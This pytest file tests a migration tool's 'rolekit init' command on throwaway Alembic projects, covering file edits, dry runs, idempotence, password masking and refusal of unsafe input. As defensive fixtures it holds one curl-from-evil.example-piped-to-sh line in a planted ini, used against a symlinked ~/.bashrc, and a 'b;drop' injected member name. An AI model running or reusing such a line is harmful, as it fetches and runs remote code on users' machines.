"""``rolekit init``: rolekit added to Alembic projects that had none, then used for real.

Each project starts as ``alembic init`` leaves it (templates ``generic`` and
``async``, or with an env.py a user changed), inside a git repository with
a ``.gitignore`` as Python projects have one.  After ``rolekit init
--family`` the commands a user runs next must work against a real server:
``alembic upgrade head`` and ``rolekit rotate my_app auto --max-age 0 --apply``.
"""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
from alembic.config import Config
from alembic.script import ScriptDirectory
from sqlalchemy.engine import make_url

from rolekit.scaffold._envpy import ENV_PY, IMPORT_LINE
from rolekit.testing import Cluster, Project
from tests.catalog_snapshot import role_snapshot
from tests.guards.helpers import can_login
from tests.plugins.postgres import REPO, TEST_QUIET_PERIOD

FAMILY = ("--family", "my_app", "--members", "my_app_tom,my_app_jerry")
GIT_ID = ("-c", "user.email=ci@example.invalid", "-c", "user.name=ci")


def git(root: Path, *args: str) -> str:
    done = subprocess.run(["git", "-C", str(root), *args], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    return done.stdout


def new_project(
    root: Path, cluster: Cluster | None = None, template: str = "generic", **kw: Any
) -> Project:
    """``alembic init -t TEMPLATE migrations`` in a git repository, committed."""
    root.mkdir(parents=True, exist_ok=True)
    env = {"ROLEKIT_DRAIN_QUIET_PERIOD": TEST_QUIET_PERIOD, "ROLEKIT_CONTEXT": "dev"}
    kw.setdefault("in_process", True)
    project = Project(root, cluster or _NO_CLUSTER, env=env, pythonpath=[REPO], **kw)
    project.alembic("init", "-t", template, "migrations")
    (root / ".gitignore").write_text("__pycache__/\n")
    git(root, "init", "-q")
    commit(root, "alembic init")
    return project


def commit(root: Path, message: str) -> None:
    git(root, "add", "-A")
    git(root, *GIT_ID, "commit", "-qm", message)


def tree(root: Path) -> dict[str, bytes]:
    """Every file of the project but git's own, for "nothing changed" checks."""
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and ".git" not in p.relative_to(root).parts
    }


def init(project: Project, *args: str, code: int = 0) -> dict[str, Any]:
    proc = project.rolekit("init", *args, "--json", check=False)
    assert proc.returncode == code, proc.stdout + proc.stderr
    return json.loads(proc.stdout)  # type: ignore[no-any-return]


def refused(project: Project, *args: str, message: str) -> None:
    """``rolekit init ARGS`` exits 2 naming the problem, and the project is untouched."""
    files = tree(project.root)
    proc = project.rolekit("init", *args, check=False)
    assert proc.returncode == 2 and message in proc.stderr, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr
    assert tree(project.root) == files


def actions(report: dict[str, Any]) -> dict[str, str]:
    return {f["path"]: f["action"] for f in report["files"]}


class _NoCluster:
    """Stands in for a cluster in tests that never reach a server."""

    superuser, superuser_password = "nobody", None

    def url(self, *args: Any) -> str:
        return "postgresql+psycopg2://nobody@127.0.0.1:1/postgres"


_NO_CLUSTER: Any = _NoCluster()


# -- on a real server: init, upgrade, rotate ----------------------------------------


def _rotate_in_new_project(project: Project, **env: str) -> None:
    """What the README tells a new user: the first password, upgrade, rotate, downgrade."""
    project.rolekit("gen-password", "my_app_tom", "--context", "dev", "--write", **env)
    project.alembic("upgrade", "head", **env)
    assert can_login(project) == {"my_app_tom": True, "my_app_jerry": False}
    commit(project.root, "rolekit init and the first upgrade")
    proc = project.rolekit("rotate", "my_app", "auto", "--max-age", "0", "--apply", **env)
    assert "result=rotated" in proc.stdout, proc.stdout
    assert can_login(project) == {"my_app_tom": False, "my_app_jerry": True}
    # the run changed the state file and the (ignored) secrets file, nothing else
    assert git(project.root, "status", "--porcelain").split() == ["M", "migrations/rotation.json"]
    project.alembic("downgrade", "base", **env)


@pytest.mark.parametrize(
    ("template", "user", "in_process"),
    [
        ("generic", "superuser", False),  # real `alembic` and `rolekit` processes, once
        ("generic", "createrole", True),  # the README's least-privileged migrator
        ("pyproject", "superuser", True),  # script_location in pyproject.toml
    ],
)
def test_a_fresh_alembic_project_rotates_after_init(
    cluster: Cluster, tmp_path: Path, template: str, user: str, in_process: bool
) -> None:
    kw: dict[str, Any] = {"in_process": in_process}
    if user != "superuser":
        kw["user"], kw["password"] = cluster.create_migrator()
    project = new_project(tmp_path / "app", cluster, template, **kw)
    before = role_snapshot(cluster)
    report = init(project, *FAMILY)
    assert set(actions(report).values()) == {"create", "edit"}
    assert (project.root / "migrations" / "env.py").read_text() == ENV_PY
    _rotate_in_new_project(project)
    assert role_snapshot(cluster) == before


@pytest.mark.parametrize("template", ["async", "pyproject_async"])
def test_an_async_alembic_project_rotates_after_init(
    cluster: Cluster, tmp_path: Path, template: str
) -> None:
    """``alembic init -t async`` with an asyncpg URL: the application keeps asyncpg,
    rolekit's migrations and checks run through psycopg2."""
    project = new_project(tmp_path / "app", cluster, template=template)
    # asyncpg's own URL options: translated (ssl) or dropped for psycopg2
    url = make_url(project.url).set(
        drivername="postgresql+asyncpg",
        query={"ssl": "disable", "prepared_statement_cache_size": "0"},
    )
    report = init(project, *FAMILY)
    assert "async" in next(f["note"] for f in report["files"] if f["path"].endswith("env.py"))
    _rotate_in_new_project(project, DATABASE_URL=url.render_as_string(hide_password=False))


CUSTOMISED = """
import sqlalchemy as sa

# the project's models
target_metadata = sa.MetaData()
sa.Table("things", target_metadata, sa.Column("id", sa.Integer, primary_key=True))
"""


def _customise(project: Project) -> Path:
    env_py = project.root / "migrations" / "env.py"
    text = env_py.read_text().replace("target_metadata = None\n", CUSTOMISED)
    env_py.write_text(
        text.replace("connection=connection,", "connection=connection, compare_type=True,")
    )
    commit(project.root, "customised env.py")
    return env_py


def test_a_customised_env_py_gets_the_lines_as_a_diff_that_force_applies(
    cluster: Cluster, tmp_path: Path
) -> None:
    project = new_project(tmp_path / "app", cluster)
    env_py = _customise(project)
    customised = env_py.read_text()
    report = init(project, *FAMILY, code=1)
    assert env_py.read_text() == customised  # the user's file is not touched ...
    assert (project.root / "migrations" / "repeatable" / "my_app.py").exists()  # ... the rest is
    [manual] = [f for f in report["files"] if f["action"] == "manual"]
    assert manual["path"] == "migrations/env.py"
    assert f"+{IMPORT_LINE}\n" in manual["diff"]
    assert "+run_migrations(context, target_metadata=target_metadata)\n" in manual["diff"]
    assert "-if context.is_offline_mode():\n" in manual["diff"]
    text = project.rolekit("init", *FAMILY, check=False)
    assert text.returncode == 1 and "re-run with --force" in text.stdout
    assert f"+{IMPORT_LINE}" in text.stdout and env_py.read_text() == customised

    init(project, *FAMILY, "--force")
    source = env_py.read_text()
    assert "target_metadata = sa.MetaData()" in source and "compare_type=True" in source
    assert set(actions(init(project, *FAMILY)).values()) == {"unchanged"}
    _rotate_in_new_project(project)


MANUAL_ENV = """\
from logging.config import fileConfig
import os

from alembic import context
from sqlalchemy import create_engine, pool

if context.config.config_file_name is not None:
    fileConfig(context.config.config_file_name)
target_metadata = None


def main() -> None:
    engine = create_engine(os.environ["DATABASE_URL"], poolclass=pool.NullPool)
    with engine.connect() as connection:
        context.configure(connection=connection, target_metadata=target_metadata)
        with context.begin_transaction():
            context.run_migrations()


main()
"""


def test_an_env_py_rolekit_cannot_edit_gets_the_lines_and_where(
    cluster: Cluster, tmp_path: Path
) -> None:
    project = new_project(tmp_path / "app", cluster)
    env_py = project.root / "migrations" / "env.py"
    env_py.write_text(MANUAL_ENV)
    proc = project.rolekit("init", *FAMILY, check=False)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert env_py.read_text() == MANUAL_ENV  # untouched, even with --force
    assert project.rolekit("init", *FAMILY, "--force", check=False).returncode == 1
    assert env_py.read_text() == MANUAL_ENV
    assert f"after line 5:\n      {IMPORT_LINE}" in proc.stdout
    assert "context.configure() is on line 15, context.run_migrations() on line 17" in proc.stdout
    assert "run_migrations(context, target_metadata=target_metadata)" in proc.stdout
    assert (project.root / "migrations" / "repeatable" / "my_app.py").exists()  # the rest is done
    # the user follows the instructions
    lines = MANUAL_ENV.splitlines(keepends=True)
    lines[-1] = "run_migrations(context, target_metadata=target_metadata)\n"
    lines.insert(5, IMPORT_LINE + "\n")
    env_py.write_text("".join(lines))
    report = init(project, *FAMILY)
    assert set(actions(report).values()) == {"unchanged"}
    _rotate_in_new_project(project)


# -- files only: no server ----------------------------------------------------------


def test_a_second_run_changes_nothing_and_says_so(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app")
    first = init(project, *FAMILY)
    assert first["changed"] is True
    files = tree(project.root)
    second = project.rolekit("init", *FAMILY)
    assert "nothing to change: the project already has what rolekit needs" in second.stdout
    assert tree(project.root) == files
    report = init(project, *FAMILY)
    assert report["changed"] is False and set(actions(report).values()) == {"unchanged"}
    # without --family too
    assert set(actions(init(project)).values()) == {"unchanged"}


def test_init_without_a_family_prepares_the_project(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app")
    report = init(project)
    assert actions(report) == {
        "migrations/env.py": "edit",
        "alembic.ini": "edit",
        "migrations/repeatable/README.md": "create",
        "migrations/rotation.json": "create",
        ".gitignore": "edit",
        "passwords.env.example": "create",
    }
    root = project.root
    written = json.loads((root / "migrations" / "rotation.json").read_text())
    assert re.fullmatch("[0-9a-f]{32}", written.pop("lineage"))  # this project's, from now on
    assert written == {"version": 2, "families": {}}
    assert (root / ".gitignore").read_text().startswith("__pycache__/\n")  # kept, lines added
    ignored = [
        "passwords.env",
        "passwords.env.lock",
        "migrations/rotation.json.lock",
        "migrations/rotation.json.my_app.lock",
    ]
    assert git(root, "check-ignore", *ignored).split() == ignored
    ini = (root / "alembic.ini").read_text()
    assert "[rolekit]\n" in ini and "repeatables = migrations/repeatable\n" in ini
    assert "keys = root,sqlalchemy,alembic,rolekit\n" in ini
    # a family later: only what it adds
    later = init(project, *FAMILY)
    changed = {path for path, action in actions(later).items() if action != "unchanged"}
    assert changed == {
        "migrations/rotation.json",
        "passwords.env.example",
        "migrations/repeatable/my_app.py",
        next(p for p in changed if p.startswith("migrations/versions/")),
    }


def test_the_family_files(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app")
    init(project, *FAMILY, "--contexts", "dev,staging,prod")
    root = project.root
    state = json.loads((root / "migrations" / "rotation.json").read_text())
    assert state["families"]["my_app"] == {
        c: {"login": ["my_app_tom"]} for c in ("dev", "prod", "staging")
    }
    assert state["members"] == {"my_app": ["my_app_tom", "my_app_jerry"]}
    module = (root / "migrations" / "repeatable" / "my_app.py").read_text()
    for context in ("dev", "staging", "prod"):
        assert (
            f"SetPasswords('set_passwords_my_app_{context}', MEMBERS, context='{context}')"
            in module
        )
    assert "FamilyLogin('allow_login_for_my_app', 'my_app', MEMBERS)" in module
    [revision] = (root / "migrations" / "versions").glob("*.py")
    source = revision.read_text()
    assert "op.create_role_family('my_app', ['my_app_tom', 'my_app_jerry'])" in source
    assert "op.drop_role_family('my_app', ['my_app_tom', 'my_app_jerry'])" in source
    example = (root / "passwords.env.example").read_text()
    assert "my_app_jerry.password.staging=\n" in example
    # a second family revises the first one's revision
    init(project, "--family", "billing", "--members", "billing_a,billing_b")
    script = ScriptDirectory.from_config(Config(str(root / "alembic.ini")))
    [head] = [script.get_revision(h) for h in script.get_heads()]
    assert head is not None and head.doc == "create role family billing"
    assert head.down_revision == revision.name.split("_")[0]


def test_a_file_rolekit_did_not_write_is_replaced_only_with_force(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app")
    mine = project.root / "migrations" / "repeatable" / "my_app.py"
    mine.parent.mkdir()
    mine.write_text("REPEATABLES = []  # mine\n")
    files = tree(project.root)
    report = init(project, *FAMILY, code=3)
    assert tree(project.root) == files
    [conflict] = [f for f in report["files"] if f["action"] == "conflict"]
    assert conflict["path"] == "migrations/repeatable/my_app.py"
    assert "-REPEATABLES = []  # mine\n" in conflict["diff"]
    dry = init(project, *FAMILY, "--force", "--dry-run")
    assert dry["applied"] is False and tree(project.root) == files
    init(project, *FAMILY, "--force")
    assert "FamilyLogin" in mine.read_text()


def test_dry_run_shows_every_change_and_writes_nothing(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app")
    files = tree(project.root)
    proc = project.rolekit("init", *FAMILY, "--dry-run")
    assert tree(project.root) == files
    assert "dry run: nothing written" in proc.stdout
    assert "+run_migrations(context, target_metadata=target_metadata)" in proc.stdout
    assert "+op.create_role_family('my_app', ['my_app_tom', 'my_app_jerry'])" not in proc.stdout
    assert "op.create_role_family('my_app', ['my_app_tom', 'my_app_jerry'])" in proc.stdout


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--family", "my_app", "--members", "my_app_tom"), "--members needs two different roles"),
        (("--family", "my_app", "--members", "a,a"), "--members needs two different roles"),
        (("--family", "My-App", "--members", "a,b"), "family name 'My-App' is not allowed"),
        (("--family", "my_app", "--members", "a,b;drop"), "member name 'b;drop' is not allowed"),
        (("--members", "a,b"), "--members and --contexts need --family"),
        (("--contexts", "dev"), "--members and --contexts need --family"),
        ((*FAMILY, "--contexts", "dev,pr od"), "context"),
        (("-c", "nowhere.ini"), "nowhere.ini does not exist"),
    ],
)
def test_bad_input_names_the_problem_and_changes_nothing(
    tmp_path: Path, args: tuple[str, ...], message: str
) -> None:
    refused(new_project(tmp_path / "app"), *args, message=message)


def test_members_that_differ_from_the_rotation_state_are_refused(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app")
    init(project, *FAMILY)
    message = "already records the members my_app_tom, my_app_jerry"
    refused(project, "--family", "my_app", "--members", "a,b", message=message)


def test_ignore_rules_git_already_applies_are_not_repeated(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app")
    (project.root / ".gitignore").write_text("__pycache__/\n*.env\n*.lock\n")
    init(project)
    assert (project.root / ".gitignore").read_text() == "__pycache__/\n*.env\n*.lock\n"


def test_a_committed_secrets_file_is_reported(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app")
    (project.root / "passwords.env").write_text("")
    commit(project.root, "oops")
    report = init(project)
    assert any("passwords.env is committed to git" in w for w in report["warnings"])


def test_a_project_with_several_heads_is_refused(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app")
    project.alembic("revision", "-m", "one")
    project.alembic("revision", "-m", "two", "--head", "base", "--splice")
    refused(project, *FAMILY, message="merge them first")


# -- found in review ------------------------------------------------------------------


def test_an_existing_rolekit_section_is_read_as_rolekit_reads_it(tmp_path: Path) -> None:
    """``%(here)s`` in [rolekit] means the folder of alembic.ini, as at run time."""
    project = new_project(tmp_path / "app")
    ini = project.root / "alembic.ini"
    ini.write_text(
        ini.read_text()
        + "\n[rolekit]\nrepeatables = %(here)s/db/rep\nstate = %(here)s/db/state.json\n"
    )
    init(project, *FAMILY)
    assert (project.root / "db" / "rep" / "my_app.py").is_file()
    assert "my_app" in json.loads((project.root / "db" / "state.json").read_text())["families"]
    assert not any("%(here)s" in str(p) for p in project.root.rglob("*"))


def test_a_family_whose_name_starts_with_an_underscore_is_loaded(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app")
    init(project, "--family", "_app", "--members", "_app_a,_app_b")
    from rolekit.repeatable.loader import load_repeatables

    found = load_repeatables(project.root / "migrations" / "repeatable")
    assert "allow_login_for__app" in {rep.id for rep in found}


def _set_ini(project: Project, old: str, new: str) -> None:
    ini = project.root / "alembic.ini"
    text = ini.read_text()
    assert old in text
    ini.write_text(text.replace(old, new))


def test_a_failing_post_write_hook_leaves_nothing_written(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app")
    _set_ini(
        project,
        "[post_write_hooks]\n",
        "[post_write_hooks]\nhooks = fmt\nfmt.type = exec\nfmt.executable = /nonexistent/black\n",
    )
    files = tree(project.root)
    proc = project.rolekit("init", *FAMILY, "--json", check=False)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "could not write the revision" in json.loads(proc.stdout)["error"]
    assert "Traceback" not in proc.stderr
    assert tree(project.root) == files


def test_json_is_one_document_whatever_hooks_print_and_names_the_real_file(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app", in_process=False)  # the hook writes to fd 1
    hook = project.root / "hook.sh"
    hook.write_text('#!/bin/sh\necho HOOK-OUTPUT "$@"\n')
    hook.chmod(0o755)
    _set_ini(
        project,
        "[post_write_hooks]\n",
        f"[post_write_hooks]\nhooks = say\nsay.type = exec\nsay.executable = {hook}\n",
    )
    _set_ini(
        project,
        "# file_template = %%(year)d_%%(month).2d_%%(day).2d_%%(hour).2d%%(minute).2d-%%(rev)s_%%(slug)s",
        "file_template = %%(year)d_%%(rev)s_%%(slug)s",
    )
    proc = project.rolekit("init", *FAMILY, "--json")
    report = json.loads(proc.stdout)  # one document: the hook's output went to stderr
    assert "HOOK-OUTPUT" in proc.stderr
    [revision] = [f["path"] for f in report["files"] if f["path"].startswith("migrations/versions")]
    assert (project.root / revision).is_file() and Path(revision).name.startswith("20")


def test_a_template_without_upgrades_is_refused_and_the_revision_not_kept(
    tmp_path: Path,
) -> None:
    project = new_project(tmp_path / "app")
    mako = project.root / "migrations" / "script.py.mako"
    mako.write_text(mako.read_text().replace('${upgrades if upgrades else "pass"}', "pass"))
    refused(project, *FAMILY, message="does not place ${upgrades}")


def test_only_a_committed_gitignore_counts(tmp_path: Path) -> None:
    """A rule in .git/info/exclude protects this clone only, not a teammate's."""
    project = new_project(tmp_path / "app")
    (project.root / ".git" / "info").mkdir(exist_ok=True)
    (project.root / ".git" / "info" / "exclude").write_text("passwords.env\n")
    init(project)
    assert "passwords.env\n" in (project.root / ".gitignore").read_text().splitlines(keepends=True)


def test_multidb_is_left_to_the_user(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app", template="multidb")
    env_py = project.root / "migrations" / "env.py"
    before = env_py.read_text()
    proc = project.rolekit("init", "--force", check=False)
    assert proc.returncode == 1 and "migrates several databases" in proc.stdout
    assert env_py.read_text() == before


def test_line_endings_are_kept(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app")
    ini, ignore = project.root / "alembic.ini", project.root / ".gitignore"
    for path in (ini, ignore):
        path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))
    report = init(project)
    for path in (ini, ignore):
        data = path.read_bytes()
        assert b"[rolekit]" in data or b"passwords.env" in data
        assert data.count(b"\n") == data.count(b"\r\n"), path
    # the diff shows what changed, not every line
    [ini_diff] = [f["diff"] for f in report["files"] if f["path"] == "alembic.ini"]
    assert "-[alembic]" not in ini_diff
    assert set(actions(init(project)).values()) == {"unchanged"}


def test_diffs_do_not_show_the_database_password(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app")
    _set_ini(
        project,
        "sqlalchemy.url = driver://user:pass@localhost/dbname",
        "sqlalchemy.url = postgresql://migrator:S3cretPW@db/app",
    )
    # put the URL next to where [rolekit] goes, inside the diff's context lines
    _set_ini(
        project,
        "\n# Logging configuration",
        "\nx = postgresql://migrator:S3cretPW@db/app\n\n# Logging configuration",
    )
    dry = project.rolekit("init", "--dry-run", "--json")
    text = project.rolekit("init", "--dry-run")
    assert "S3cretPW" not in dry.stdout + text.stdout and "***@db/app" in dry.stdout


def test_an_existing_readme_or_family_module_is_kept(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app")
    folder = project.root / "migrations" / "repeatable"
    folder.mkdir()
    (folder / "README.md").write_text("ours\n")
    (folder / "families.py").write_text(
        "from rolekit.repeatable import FamilyLogin\n"
        "REPEATABLES = [FamilyLogin('login', 'my_app', ['my_app_tom', 'my_app_jerry'])]\n"
    )
    report = init(project, *FAMILY)
    assert actions(report)["migrations/repeatable/README.md"] == "unchanged"
    assert actions(report)["migrations/repeatable/families.py"] == "unchanged"
    assert not (folder / "my_app.py").exists() and (folder / "README.md").read_text() == "ours\n"


def test_dry_run_with_force_says_would(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app")
    mine = project.root / "passwords.env.example"
    mine.write_text("mine\n")
    (project.root / "migrations" / "repeatable").mkdir()
    (project.root / "migrations" / "repeatable" / "my_app.py").write_text("REPEATABLES = []\n")
    text = project.rolekit("init", *FAMILY, "--dry-run", "--force").stdout
    assert "would replace" in text and "dry run: nothing written" in text


# -- issue 23: a repository's symlinks, ignore rules, env.py and ini are input --------


def _outside(tmp_path: Path) -> Path:
    """A folder outside the project, standing for the user's home."""
    home = tmp_path / "home"
    home.mkdir(exist_ok=True)
    (home / ".bashrc").write_text("# the user's own\n")
    return home


def _refused_outside(project: Project, home: Path, link: str, *args: str) -> None:
    """init exits 3 naming *link*, and neither the project nor *home* changed."""
    files, theirs = tree(project.root), tree(home)
    for extra in ((), ("--force",)):
        proc = project.rolekit("init", *args, *extra, check=False)
        assert proc.returncode == 3, proc.stdout + proc.stderr
        assert f"{link} is a symlink to" in proc.stderr and "outside the project" in proc.stderr
        assert "nothing was written" in proc.stderr and "Traceback" not in proc.stderr
        assert tree(project.root) == files and tree(home) == theirs


def test_a_committed_gitignore_symlink_to_a_home_file_is_refused(tmp_path: Path) -> None:
    """The repository chooses the lines (its [rolekit] secrets setting) and where
    they go: init must not append them to the user's ~/.bashrc."""
    project = new_project(tmp_path / "app")
    home = _outside(tmp_path)
    ignore = project.root / ".gitignore"
    ignore.unlink()
    ignore.symlink_to(home / ".bashrc")
    ini = project.root / "alembic.ini"
    ini.write_text(ini.read_text() + "\n[rolekit]\nsecrets = $(curl evil.example|sh)\n")
    _refused_outside(project, home, ".gitignore")


@pytest.mark.parametrize(
    ("link", "target", "args"),
    [
        ("passwords.env.example", "planted.env", ()),  # dangling: would create it
        ("alembic.ini", "alembic.ini", ()),  # a shared ini gaining this checkout's section
        ("migrations/env.py", "env.py", ()),
        ("migrations/repeatable", "repeatable", ()),  # a folder: the README under it
        ("migrations/versions", "versions", FAMILY),  # Alembic's revision
    ],
)
def test_no_file_is_written_through_a_symlink_leaving_the_project(
    tmp_path: Path, link: str, target: str, args: tuple[str, ...]
) -> None:
    project = new_project(tmp_path / "app")
    home = _outside(tmp_path)
    path = project.root / link
    if path.exists():  # move what the project has out, and link to it
        path.rename(home / target)
    path.symlink_to(home / target)
    if link == "passwords.env.example":
        assert not path.exists()  # dangling
    _refused_outside(project, home, link, *args)


def test_a_symlinked_gitignore_is_left_to_the_user(tmp_path: Path) -> None:
    """git does not read a .gitignore that is a symlink: a rule in it protects nothing."""
    project = new_project(tmp_path / "app")
    ignore = project.root / ".gitignore"
    ignore.rename(project.root / "ignore-rules")
    ignore.symlink_to("ignore-rules")
    report = init(project, code=1)
    assert actions(report)[".gitignore"] == "manual"
    assert (project.root / "ignore-rules").read_text() == "__pycache__/\n"
    assert actions(init(project, "--force", code=1))[".gitignore"] == "manual"
    assert (project.root / "ignore-rules").read_text() == "__pycache__/\n"


def test_a_negated_ignore_rule_does_not_count_as_ignoring(tmp_path: Path) -> None:
    project = new_project(tmp_path / "app")
    ignore = project.root / ".gitignore"
    ignore.write_text("__pycache__/\n*.env\n!passwords.env\n")
    commit(project.root, "ignore rules with an exception")
    init(project)
    (project.root / "passwords.env").write_text("my_app_tom.password.dev=secret\n")
    status = git(project.root, "status", "--porcelain", "-uall").splitlines()
    assert "?? passwords.env" not in status and "?? passwords.env.example" in status
    assert git(project.root, "check-ignore", "passwords.env").split() == ["passwords.env"]
    assert set(actions(init(project)).values()) == {"unchanged"}  # and stays so


SHARED_INI_SECTION = (
    "\n[rolekit]\nrepeatables = migrations/repeatable\nstate = migrations/rotation.json\n"
)


def test_a_symlinked_alembic_ini_keeps_the_project_in_its_own_folder(tmp_path: Path) -> None:
    """The project root is the folder of alembic.ini as given, as Alembic's %(here)s."""
    project = new_project(tmp_path / "app")
    shared = tmp_path / "shared"
    shared.mkdir()
    ini = project.root / "alembic.ini"
    (shared / "alembic.ini").write_text(ini.read_text() + SHARED_INI_SECTION)
    ini.unlink()
    ini.symlink_to(shared / "alembic.ini")
    theirs = tree(shared)
    report = init(project, *FAMILY)
    assert Path(report["root"]) == project.root
    assert tree(shared) == theirs  # nothing next to the shared target
    assert (project.root / "migrations" / "repeatable" / "my_app.py").is_file()
    assert (
        "my_app"
        in json.loads((project.root / "migrations" / "rotation.json").read_text())["families"]
    )
    from rolekit.project.config import Settings

    settings = Settings.load(ini)
    assert settings.root == project.root
    assert settings.state_file == project.root / "migrations" / "rotation.json"


def test_symlinks_within_the_project_are_followed_and_paths_stay_relative(
    tmp_path: Path,
) -> None:
    project = new_project(tmp_path / "app")
    ini = project.root / "alembic.ini"
    (project.root / "config").mkdir()
    ini.rename(project.root / "config" / "alembic.ini")
    ini.symlink_to("config/alembic.ini")
    example = project.root / "passwords.env.example"
    example.symlink_to("config/passwords.env.example")  # dangling, inside: created there
    init(project, *FAMILY)
    text = (project.root / "config" / "alembic.ini").read_text()
    assert "repeatables = migrations/repeatable\n" in text and str(tmp_path) not in text
    assert (project.root / "migrations" / "repeatable" / "README.md").is_file()
    assert not (project.root / "config" / "migrations").exists()
    assert ini.is_symlink() and example.is_symlink()
    written = (project.root / "config" / "passwords.env.example").read_text()
    assert "my_app_tom.password.dev=" in written


OWN_RUN_MIGRATIONS = """

def run_migrations() -> None:
    \"\"\"The project's own helper, of the same name as rolekit's.\"\"\"
    run_migrations_online()
"""


def test_an_env_py_with_its_own_run_migrations_imports_rolekits_under_another_name(
    cluster: Cluster, tmp_path: Path
) -> None:
    project = new_project(tmp_path / "app", cluster)
    env_py = project.root / "migrations" / "env.py"
    text = env_py.read_text()
    at = text.index("\n\nif context.is_offline_mode():")
    env_py.write_text(text[:at] + OWN_RUN_MIGRATIONS + text[at:])
    commit(project.root, "env.py with a run_migrations of its own")
    report = init(project, *FAMILY, code=1)
    [manual] = [f for f in report["files"] if f["action"] == "manual"]
    assert "+from rolekit.runtime.environment import run_migrations as " in manual["diff"]
    init(project, *FAMILY, "--force")
    assert set(actions(init(project, *FAMILY)).values()) == {"unchanged"}
    project.rolekit("gen-password", "my_app_tom", "--context", "dev", "--write")
    project.alembic("upgrade", "head")  # rolekit's run_migrations, not the project's
    assert can_login(project) == {"my_app_tom": True, "my_app_jerry": False}
    project.alembic("downgrade", "base")


def test_an_env_py_whose_own_run_migrations_shadows_rolekits_is_shown_the_fix(
    tmp_path: Path,
) -> None:
    """What init --force wrote before: rolekit's import, then the project's def."""
    project = new_project(tmp_path / "app")
    env_py = project.root / "migrations" / "env.py"
    text = env_py.read_text()
    at = text.index("\n\nif context.is_offline_mode():")
    shadowed = (
        f"{IMPORT_LINE}\n"
        + text[:at]
        + OWN_RUN_MIGRATIONS
        + "\n\nrun_migrations(context, target_metadata=target_metadata)\n"
    )
    env_py.write_text(shadowed)
    proc = project.rolekit("init", check=False)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "binds that name again" in proc.stdout and "as _rolekit_run_migrations" in proc.stdout
    assert env_py.read_text() == shadowed
